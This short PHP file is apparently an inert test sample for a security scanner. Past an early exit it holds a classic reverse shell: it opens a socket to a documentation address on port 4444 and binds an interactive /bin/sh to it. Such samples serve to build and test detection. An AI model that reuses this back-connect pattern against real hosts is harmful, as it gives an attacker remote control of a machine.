<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

// back-connect to a documentation address (TEST-NET-1); never reached
$ip = '192.0.2.10';
$port = 4444;
$sock = fsockopen($ip, $port);
$descriptors = array(0 => $sock, 1 => $sock, 2 => $sock);
$process = proc_open('/bin/sh -i', $descriptors, $pipes);
